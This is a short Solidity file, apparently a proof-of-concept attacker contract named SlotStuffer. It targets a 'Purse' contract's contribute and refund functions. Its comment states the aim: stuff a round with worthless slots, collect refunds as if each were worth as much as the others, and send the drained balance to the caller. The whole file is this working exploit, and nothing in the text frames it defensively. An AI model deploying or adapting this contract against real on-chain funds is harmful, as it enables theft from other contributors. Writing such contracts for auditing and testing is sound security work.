// SPDX-License-Identifier: MIT
pragma solidity 0.8.30;

interface IPurse {
    function contribute(uint256 count) external payable;

    function refund(uint256 number, uint256 from, uint256 to) external;
}

/// Fills a round with worthless slots and is refunded for each of them as if it were worth as much as the others.
contract SlotStuffer {
    function stuff(IPurse purse, uint256 count) external payable {
        purse.contribute{value: msg.value}(count);
    }

    function collect(IPurse purse, uint256 number, uint256 from, uint256 to) external {
        purse.refund(number, from, to);
        payable(msg.sender).transfer(address(this).balance);
    }

    receive() external payable {}
}
